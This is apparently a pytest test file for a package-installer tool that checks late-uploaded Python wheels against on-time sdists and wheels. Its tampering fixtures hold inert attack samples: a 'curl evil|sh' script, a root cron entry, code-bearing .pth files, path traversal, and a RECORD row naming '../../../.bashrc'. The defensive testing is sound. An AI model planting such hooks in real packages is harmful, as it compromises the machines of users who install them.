"""The content proofs of ``late-verified`` (safeinstall.backfill), on real archives built here.

Each test builds an on-time sdist and a late wheel the way setuptools lays them out (a wheel of
the sdist's files plus a .dist-info), then tampers with the wheel the way an attacker would.
Only an identical backfill (or one that differs by a documented safe normalisation) verifies.
"""

from __future__ import annotations

import base64
import hashlib
import io
import tarfile
import zipfile
from collections.abc import Mapping
from pathlib import Path

import pytest

from safeinstall.backfill import (
    Mismatch,
    Proof,
    is_pure_wheel,
    verify_against_wheel,
    verify_identical_wheel,
    verify_pure_wheel,
)
from safeinstall.backfillcheck import os_and_arch, references
from safeinstall.models import IndexFile

NAME, VERSION = "demo", "1.0"
INFO = f"{NAME}-{VERSION}.dist-info"
SOURCES = {
    "demo/__init__.py": b"from demo.core import run\n__version__ = '1.0'\n",
    "demo/core.py": b"def run():\n    return 42\n",
    "demo/sub/__init__.py": b"",
    "demo/sub/util.py": b"X = 1\n",
    "demo/data.json": b'{"a": 1}\n',
}
REQUIRES = ["requests>=2", 'tomli; python_version < "3.11"', 'rich; extra == "cli"']
ENTRY_POINTS = "[console_scripts]\ndemo = demo.core:run\n"


def _record(members: Mapping[str, bytes], info: str) -> bytes:
    rows = []
    for path, data in members.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
        rows.append(f"{path},sha256={digest},{len(data)}")
    rows.append(f"{info}/RECORD,,")
    return ("\n".join(rows) + "\n").encode()


def write_wheel(path: Path, files: Mapping[str, bytes], *, requires: list[str] = REQUIRES,
                entry_points: str | None = ENTRY_POINTS, purelib: bool = True,
                tag: str = "py3-none-any") -> Path:
    meta = (f"Metadata-Version: 2.1\nName: {NAME}\nVersion: {VERSION}\n"
            + "".join(f"Requires-Dist: {r}\n" for r in requires)
            + "Provides-Extra: cli\n")
    members = dict(files)
    members[f"{INFO}/METADATA"] = meta.encode()
    members[f"{INFO}/WHEEL"] = (f"Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: "
                                f"{'true' if purelib else 'false'}\nTag: {tag}\n").encode()
    if entry_points is not None:
        members[f"{INFO}/entry_points.txt"] = entry_points.encode()
    members[f"{INFO}/RECORD"] = _record(members, INFO)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return path


def write_sdist(path: Path, files: Mapping[str, bytes], *, prefix: str = "",
                requires: list[str] | None = REQUIRES, metadata_version: str = "2.2",
                egg_info: Mapping[str, str] | None = None) -> Path:
    root = f"{NAME}-{VERSION}"
    members = {f"{root}/{prefix}{p}": d for p, d in files.items()}
    pkg_info = f"Metadata-Version: {metadata_version}\nName: {NAME}\nVersion: {VERSION}\n"
    if requires is None:
        pkg_info += "Dynamic: Requires-Dist\n"
    else:
        pkg_info += "".join(f"Requires-Dist: {r}\n" for r in requires)
    members[f"{root}/PKG-INFO"] = pkg_info.encode()
    members[f"{root}/setup.py"] = b"from setuptools import setup\nsetup()\n"
    members[f"{root}/tests/test_core.py"] = b"def test():\n    pass\n"
    for name, text in (egg_info if egg_info is not None
                       else {"entry_points.txt": ENTRY_POINTS}).items():
        members[f"{root}/{prefix}{NAME}.egg-info/{name}"] = text.encode()
    with tarfile.open(path, "w:gz") as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return path


@pytest.fixture
def sdist(tmp_path: Path) -> Path:
    return write_sdist(tmp_path / f"{NAME}-{VERSION}.tar.gz", SOURCES)


def _wheel(tmp_path: Path, files: Mapping[str, bytes] = SOURCES, **kw: object) -> Path:
    return write_wheel(tmp_path / f"{NAME}-{VERSION}-py3-none-any.whl", files, **kw)  # type: ignore[arg-type]


def test_identical_backfill_verifies(tmp_path: Path, sdist: Path) -> None:
    out = verify_pure_wheel(_wheel(tmp_path), sdist, sdist_sha256="ab" * 32)
    assert isinstance(out, Proof), out
    assert out.kind == "sdist-content"
    assert out.reference == sdist.name and out.reference_sha256 == "ab" * 32
    assert out.files_compared == len(SOURCES)
    assert out.normalisations == ()


def test_src_layout_verifies(tmp_path: Path) -> None:
    sdist = write_sdist(tmp_path / "demo-1.0.tar.gz", SOURCES, prefix="src/")
    assert isinstance(verify_pure_wheel(_wheel(tmp_path), sdist), Proof)


def test_crlf_only_differences_verify(tmp_path: Path) -> None:
    crlf = {p: (d.replace(b"\n", b"\r\n") if p.endswith(".py") else d)
            for p, d in SOURCES.items()}
    sdist = write_sdist(tmp_path / "demo-1.0.tar.gz", crlf)
    out = verify_pure_wheel(_wheel(tmp_path), sdist)
    assert isinstance(out, Proof), out
    assert out.normalisations == ("CRLF/CR line ends in .py/.pyi files read as LF",)


def test_crlf_in_data_file_does_not_verify(tmp_path: Path) -> None:
    changed = dict(SOURCES, **{"demo/data.json": b'{"a": 1}\r\n'})
    sdist = write_sdist(tmp_path / "demo-1.0.tar.gz", changed)
    out = verify_pure_wheel(_wheel(tmp_path), sdist)
    assert isinstance(out, Mismatch) and "demo/data.json differs" in out.reason


def test_requirements_from_requires_txt(tmp_path: Path) -> None:
    requires_txt = "requests>=2\n\n[:python_version < \"3.11\"]\ntomli\n\n[cli]\nrich\n"
    sdist = write_sdist(tmp_path / "demo-1.0.tar.gz", SOURCES, requires=None,
                        egg_info={"requires.txt": requires_txt,
                                  "entry_points.txt": ENTRY_POINTS, "PKG-INFO": "x"})
    out = verify_pure_wheel(_wheel(tmp_path), sdist)
    assert isinstance(out, Proof), out


def test_dynamic_requirements_do_not_verify(tmp_path: Path) -> None:
    sdist = write_sdist(tmp_path / "demo-1.0.tar.gz", SOURCES, requires=None, egg_info={})
    out = verify_pure_wheel(_wheel(tmp_path), sdist)
    assert isinstance(out, Mismatch) and "only at build time" in out.reason


def test_old_pkg_info_is_not_static(tmp_path: Path) -> None:
    """Metadata-Version 2.1 predates PEP 643: its Requires-Dist proves nothing."""
    sdist = write_sdist(tmp_path / "demo-1.0.tar.gz", SOURCES, metadata_version="2.1",
                        egg_info={})
    out = verify_pure_wheel(_wheel(tmp_path), sdist)
    assert isinstance(out, Mismatch) and "only at build time" in out.reason


TAMPERINGS = {
    "added .pth": (dict(SOURCES, **{"demo-init.pth": b"import os\n"}), {}, ".pth"),
    "one byte changed in a .py": (dict(SOURCES, **{"demo/core.py": b"def run():\n    return 43\n"}),
                                  {}, "demo/core.py differs"),
    "added Requires-Dist": (SOURCES, {"requires": [*REQUIRES, "evil>=1"]}, "added evil>=1"),
    "added console_script": (SOURCES, {"entry_points": ENTRY_POINTS + "evil = demo.core:run\n"},
                             "entry points differ"),
    "stray .pyc": (dict(SOURCES, **{"demo/__pycache__/core.cpython-311.pyc": b"\x00"}), {},
                   "bytecode"),
    ".pth through .data/purelib": (dict(SOURCES, **{"demo-1.0.data/purelib/x.pth": b"import os"}),
                                   {}, ".pth"),
    ".data/scripts without counterpart": (
        dict(SOURCES, **{"demo-1.0.data/scripts/run-me": b"#!/bin/sh\ncurl evil|sh\n"}), {},
        "script run-me"),
    "sitecustomize": (dict(SOURCES, **{"sitecustomize.py": b"import os\n"}), {},
                      "sitecustomize.py"),
    "code-bearing _version.py": (dict(SOURCES, **{"demo/_version.py": b"import os\n"}), {},
                                 "demo/_version.py is not in the sdist"),
    "lone-CR line injection": (
        dict(SOURCES, **{"demo/core.py": b"def run():\n    return 42\r import os\n"}), {},
        "demo/core.py differs"),
    "sdist test file moved to a top-level module": (
        dict(SOURCES, **{"test_core.py": b"def test():\n    pass\n"}), {},
        "test_core.py is not in the sdist"),
    "namespace .pth with code appended": (
        dict(SOURCES, **{"demo-1.0-nspkg.pth": b"import sys, types, os;import evil\n"}), {},
        ".pth"),
    ".data/data without counterpart": (
        dict(SOURCES, **{"demo-1.0.data/data/etc/cron.d/x": b"* * * * * root sh\n"}), {},
        "data/etc/cron.d/x"),
    "missing module": ({k: v for k, v in SOURCES.items() if k != "demo/sub/util.py"}, {},
                       "demo/sub/util.py is missing"),
    "dropped Requires-Dist": (SOURCES, {"requires": REQUIRES[:1]}, "missing"),
    "not pure": (SOURCES, {"purelib": False}, "Root-Is-Purelib"),
}


@pytest.mark.parametrize("case", sorted(TAMPERINGS))
def test_tampering_stays_late(tmp_path: Path, sdist: Path, case: str) -> None:
    files, kw, why = TAMPERINGS[case]
    out = verify_pure_wheel(_wheel(tmp_path, files, **kw), sdist)
    assert isinstance(out, Mismatch), f"{case} was verified"
    assert why in out.reason, out.reason


def test_script_with_rewritten_shebang_verifies(tmp_path: Path) -> None:
    script = b"#!/usr/bin/env python3\nprint(1)\n"
    sdist = write_sdist(tmp_path / "demo-1.0.tar.gz",
                        dict(SOURCES, **{"scripts/demo-tool": script}))
    wheel = _wheel(tmp_path, dict(SOURCES, **{"demo-1.0.data/scripts/demo-tool":
                                              b"#!python\nprint(1)\n"}))
    out = verify_pure_wheel(wheel, sdist)
    assert isinstance(out, Proof), out
    assert "script shebang rewritten to #!python" in out.normalisations


def test_archive_with_traversal_is_not_verified(tmp_path: Path, sdist: Path) -> None:
    wheel = _wheel(tmp_path, dict(SOURCES, **{"../evil.py": b"x"}))
    out = verify_pure_wheel(wheel, sdist)
    assert isinstance(out, Mismatch) and "outside its root" in out.reason


def test_corrupt_archive_is_a_mismatch(tmp_path: Path) -> None:
    bad = tmp_path / "demo-1.0.tar.gz"
    bad.write_bytes(b"not a tarball")
    out = verify_pure_wheel(_wheel(tmp_path), bad)
    assert isinstance(out, Mismatch) and "cannot be read" in out.reason


# -- binary wheels against an on-time wheel's RECORD ---------------------------------------------

BINARY = dict(SOURCES, **{"demo/_speedups.cpython-311-x86_64-linux-gnu.so": bytes(range(256)) * 8})


def _binary(tmp_path: Path, name: str, files: Mapping[str, bytes], tag: str) -> Path:
    return write_wheel(tmp_path / name, files, purelib=False, tag=tag)


def _record_of(wheel: Path) -> bytes:
    with zipfile.ZipFile(wheel) as archive:
        return archive.read(f"{INFO}/RECORD")


def test_identical_binary_wheel_verifies(tmp_path: Path) -> None:
    ref = _binary(tmp_path, "demo-1.0-cp311-cp311-manylinux1_x86_64.whl", BINARY,
                  "cp311-cp311-manylinux1_x86_64")
    late = _binary(tmp_path, "demo-1.0-cp311-cp311-manylinux_2_28_x86_64.whl", BINARY,
                   "cp311-cp311-manylinux_2_28_x86_64")
    out = verify_identical_wheel(late, ref.name, _record_of(ref), reference_sha256="cd" * 32)
    assert isinstance(out, Proof), out
    assert out.kind == "wheel-record" and out.files_compared == len(BINARY) + 2  # METADATA, eps


def test_binary_wheel_one_byte_different_stays_late(tmp_path: Path) -> None:
    ref = _binary(tmp_path, "ref.whl", BINARY, "cp311-cp311-manylinux1_x86_64")
    so = bytearray(BINARY["demo/_speedups.cpython-311-x86_64-linux-gnu.so"])
    so[100] ^= 1
    late = _binary(tmp_path, "late.whl",
                   dict(BINARY, **{"demo/_speedups.cpython-311-x86_64-linux-gnu.so": bytes(so)}),
                   "cp311-cp311-manylinux_2_28_x86_64")
    out = verify_identical_wheel(late, ref.name, _record_of(ref))
    assert isinstance(out, Mismatch) and "_speedups" in out.reason


@pytest.mark.parametrize("change", ["extra file", "missing file", "extra dependency"])
def test_binary_wheel_with_other_files_stays_late(tmp_path: Path, change: str) -> None:
    ref = _binary(tmp_path, "ref.whl", BINARY, "cp311-cp311-manylinux1_x86_64")
    files = dict(BINARY)
    kw: dict[str, object] = {}
    if change == "extra file":
        files["demo/evil.py"] = b"import os\n"
    elif change == "missing file":
        del files["demo/core.py"]
    late_path = tmp_path / "late.whl"
    if change == "extra dependency":
        write_wheel(late_path, files, purelib=False, tag="cp311-cp311-manylinux_2_28_x86_64",
                    requires=[*REQUIRES, "evil"])
    else:
        write_wheel(late_path, files, purelib=False, tag="cp311-cp311-manylinux_2_28_x86_64",
                    **kw)  # type: ignore[arg-type]
    out = verify_identical_wheel(late_path, ref.name, _record_of(ref))
    assert isinstance(out, Mismatch), change


# -- the late wheel's own RECORD, and proofs against a downloaded wheel's content --------------


def _with_record_line(wheel: Path, line: str) -> Path:
    """A copy of ``wheel`` whose RECORD has one more line."""
    out = wheel.with_name("tampered-" + wheel.name)
    with zipfile.ZipFile(wheel) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename.endswith("/RECORD"):
                data += line.encode() + b"\n"
            dst.writestr(info, data)
    return out


def test_a_record_naming_a_path_outside_the_wheel_is_not_verified(tmp_path: Path,
                                                                  sdist: Path) -> None:
    """pip keeps the wheel's RECORD rows as the files to remove on uninstall: a late wheel
    whose RECORD names ``../../.bashrc`` carries something the on-time files did not."""
    wheel = _with_record_line(_wheel(tmp_path), "../../../.bashrc,,")
    out = verify_pure_wheel(wheel, sdist)
    assert isinstance(out, Mismatch) and "'../../../.bashrc', which is not a file" in out.reason
    ref = _binary(tmp_path, "demo-1.0-cp311-cp311-manylinux1_x86_64.whl", BINARY,
                  "cp311-cp311-manylinux1_x86_64")
    late = _with_record_line(_binary(tmp_path, "demo-1.0-cp311-cp311-manylinux_2_28_x86_64.whl",
                                     BINARY, "cp311-cp311-manylinux_2_28_x86_64"),
                             "../../../.bashrc,,")
    out = verify_against_wheel(late, ref)
    assert isinstance(out, Mismatch) and ".bashrc" in out.reason


def test_against_a_wheel_its_content_counts_not_its_record(tmp_path: Path) -> None:
    """An on-time wheel whose RECORD lies about a file proves nothing about that file."""
    ref = _binary(tmp_path, "demo-1.0-cp311-cp311-manylinux1_x86_64.whl", BINARY,
                  "cp311-cp311-manylinux1_x86_64")
    so = "demo/_speedups.cpython-311-x86_64-linux-gnu.so"
    evil = bytearray(BINARY[so])
    evil[0] ^= 1
    late = _binary(tmp_path, "demo-1.0-cp311-cp311-manylinux_2_28_x86_64.whl",
                   dict(BINARY, **{so: bytes(evil)}), "cp311-cp311-manylinux_2_28_x86_64")
    # a reference that has the original .so, but whose RECORD gives the late .so's digest
    liar = tmp_path / "liar" / ref.name
    liar.parent.mkdir()
    late_digest = base64.urlsafe_b64encode(hashlib.sha256(bytes(evil)).digest()).rstrip(b"=")
    with zipfile.ZipFile(ref) as src, zipfile.ZipFile(liar, "w") as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename.endswith("/RECORD"):
                data = b"\n".join(
                    (line.split(b",")[0] + b",sha256=" + late_digest + b"," +
                     str(len(evil)).encode()) if line.startswith(so.encode()) else line
                    for line in data.split(b"\n"))
            dst.writestr(info, data)
    assert isinstance(verify_identical_wheel(late, liar.name, _record_of(liar)), Proof)
    out = verify_against_wheel(late, liar, reference_sha256="ab" * 32)
    assert isinstance(out, Mismatch) and "_speedups" in out.reason
    same = _binary(tmp_path, "same.whl", BINARY, "cp311-cp311-manylinux_2_28_x86_64")
    ok = verify_against_wheel(same, ref, reference_sha256="ab" * 32)
    assert isinstance(ok, Proof) and (ok.reference, ok.reference_sha256) == (ref.name, "ab" * 32)


def test_is_pure_wheel(tmp_path: Path) -> None:
    assert is_pure_wheel(_wheel(tmp_path))
    assert not is_pure_wheel(_binary(tmp_path, "b.whl", BINARY, "cp311-cp311-manylinux1_x86_64"))
    broken = tmp_path / "broken.whl"
    broken.write_bytes(b"PK not a zip")
    assert not is_pure_wheel(broken)


# -- which on-time files a late wheel is compared with ------------------------------------------


def _listed(filename: str) -> IndexFile:
    from datetime import datetime, timezone

    from packaging.utils import parse_sdist_filename, parse_wheel_filename

    from safeinstall.models import Source

    if filename.endswith(".whl"):
        name, version, build, tags = parse_wheel_filename(filename)
    else:
        (name, version), build, tags = parse_sdist_filename(filename), (), frozenset()
    digest = hashlib.sha256(filename.encode()).hexdigest()
    return IndexFile(
        project=name, filename=filename, url=f"https://files.example/{filename}",
        source=Source("https://index.example/simple/", "index"), version=version,
        is_wheel=filename.endswith(".whl"), tags=tags, build_tag=build, sha256=digest,
        hashes=(("sha256", digest),), upload_time=datetime(2024, 1, 1, tzinfo=timezone.utc),
        yanked=None, requires_python=None, size=None, metadata_url=None,
        metadata_sha256=None)


@pytest.mark.parametrize("platform, system", [
    ("manylinux2014_x86_64", ("linux", "x86_64")),
    ("manylinux_2_17_x86_64", ("linux", "x86_64")),
    ("manylinux1_i686", ("linux", "i686")),
    ("linux_aarch64", ("linux", "aarch64")),
    ("musllinux_1_1_x86_64", ("musllinux", "x86_64")),
    ("macosx_10_9_x86_64", ("macosx", "x86_64")),
    ("macosx_11_0_arm64", ("macosx", "arm64")),
    ("win_amd64", ("win", "amd64")),
    ("win32", ("win", "x86")),
    ("any", ("any", "any")),
])
def test_os_and_arch(platform: str, system: tuple[str, str]) -> None:
    assert os_and_arch(platform) == system


def test_references_rank_same_platform_then_python_and_stop_at_two() -> None:
    late = _listed("demo-1.0-cp312-cp312-manylinux_2_17_x86_64.manylinux2014_x86_64.whl")
    on_time = [_listed(n) for n in (
        "demo-1.0.tar.gz",
        "demo-1.0-cp312-cp312-win_amd64.whl",
        "demo-1.0-cp311-cp311-macosx_11_0_arm64.whl",
        "demo-1.0-cp311-cp311-manylinux2014_x86_64.whl",
        "demo-1.0-cp312-cp312-manylinux2014_aarch64.whl",
        "demo-1.0-cp312-cp312-manylinux2014_x86_64.whl",
    )]
    assert [g.filename for g in references(late, on_time, pure=False)] == [
        "demo-1.0-cp312-cp312-manylinux2014_x86_64.whl",
        "demo-1.0-cp311-cp311-manylinux2014_x86_64.whl",
    ]
    # a pure wheel is compared with the sdist first
    pure = _listed("demo-1.0-py3-none-any.whl")
    assert [g.filename for g in references(pure, on_time, pure=True)][:1] == ["demo-1.0.tar.gz"]


def test_references_skip_files_that_cannot_be_tied_to_the_index() -> None:
    from dataclasses import replace

    late = _listed("demo-1.0-py3-none-any.whl")
    unhashed = replace(_listed("demo-1.0.tar.gz"), sha256=None, hashes=())
    yanked = replace(_listed("demo-1.0-py2.py3-none-any.whl"), yanked="broken")
    assert references(late, [unhashed, yanked], pure=True) == []
    # a yanked late file (a pinned, yanked release) may be compared with yanked files
    assert references(replace(late, yanked=""), [yanked], pure=True) == [yanked]
    assert references(late, [late], pure=True) == []


def test_the_first_difference_is_told_in_the_layout_the_wheel_follows(tmp_path: Path) -> None:
    sdist = write_sdist(tmp_path / "demo-1.0.tar.gz", SOURCES, prefix="src/")
    out = verify_pure_wheel(_wheel(tmp_path, dict(SOURCES, **{"demo/core.py": b"evil\n"})),
                            sdist)
    assert isinstance(out, Mismatch)
    assert out.reason == "demo/core.py differs from the sdist's src/demo/core.py"
